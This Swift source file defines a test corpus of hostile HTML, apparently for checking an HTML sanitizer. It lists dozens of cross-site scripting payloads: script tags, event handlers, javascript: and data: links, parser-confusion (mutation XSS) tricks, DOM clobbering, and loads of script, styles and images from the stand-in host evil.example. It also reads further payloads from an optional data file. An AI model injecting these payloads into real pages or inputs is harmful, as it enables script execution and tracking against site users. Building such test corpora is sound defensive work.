import Foundation

/// Markup that tries to run something, to send something, or to take over the page around it.
enum HostileMarkup {
    /// Of our own writing, one for each technique.
    static let own: [String] = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
        "<img src=`javascript:alert(1)`>", "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='java&#9;script:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>",
        "<a href='\u{1}javascript:alert(1)'>x</a>", "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>", "<a href='//evil.example/'>x</a>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<xmp><!--</xmp><img src=x onerror=alert(1)>-->",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
        "<title><img title='</title><img src=x onerror=alert(1)>'>", "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'></object>",
        "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<form action='javascript:alert(1)'><input type=submit></form>",
        "<button formaction='javascript:alert(1)'>x</button>", "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
        "<video poster='http://evil.example/p.png' src='http://evil.example/v.mp4'></video>",
        "<audio src='http://evil.example/a.mp3' autoplay></audio>", "<img srcset='http://evil.example/1.png 1x'>",
        "<img src='http://evil.example/1.png'>", "<img src='\\\\evil.example\\1.png'>",
        "<img src='/\\evil.example/1.png'>",
        "<img src='/\t/evil.example/1.png'>", "<p style='background:url(http://evil.example/1.png)'>x</p>",
        "<style>@import 'http://evil.example/x.css';</style>", "<link rel=stylesheet href='http://evil.example/x.css'>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href='http://evil.example/'>",
        "<table background='http://evil.example/1.png'><td background='http://evil.example/2.png'>x",
        "<marquee onstart=alert(1)>x</marquee>", "<isindex type=image src=1 onerror=alert(1)>",
        "<a id=location href='/x'>x</a>", "<img name=body id=cookie src=/x.png>",
        "<form id=attributes><input name=x></form>",
        "<template><img src=x onerror=alert(1)></template>", "<!--><img src=x onerror=alert(1)>-->",
        "<!--!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php <img src=x onerror=alert(1)> ?>",
        "<a href=\"x\" onclick=alert(1) \"=\">x</a>", "<b <script>alert(1)</script>", "<img/src=x/onerror=alert(1)>",
        "<img \u{0}src=x onerror\u{0}=alert(1)>", "<p title=\"&quot;><img src=x onerror=alert(1)>\">x</p>",
        "<select><style></select><img src=x onerror=alert(1)></style>", "<plaintext><img src=x onerror=alert(1)>",
        "<thaw-frame src='javascript:alert(1)'></thaw-frame>", "<p><b><i><a href=javascript:alert(1)><p><b><a href=x>",
        "<table><tr><td><form><table><svg><desc><td><img src=x onerror=alert(1)>",
        "<a href=x><table><a href=javascript:alert(1)>y",
    ]

    /// The folder of shared test data; the suites that read it are enabled where it is given.
    static var folder: String? { ProcessInfo.processInfo.environment["THAW_TEST_DATA"] }

    /// Our own, and the collected ones where they are at hand.
    static func all() throws -> [String] {
        guard let folder else { return own }
        struct Line: Decodable { let html: String }
        let text = try String(contentsOfFile: folder + "/xss.jsonl", encoding: .utf8)
        return try own
            + text.split(separator: "\n").map { try JSONDecoder().decode(Line.self, from: Data($0.utf8)).html }
    }
}
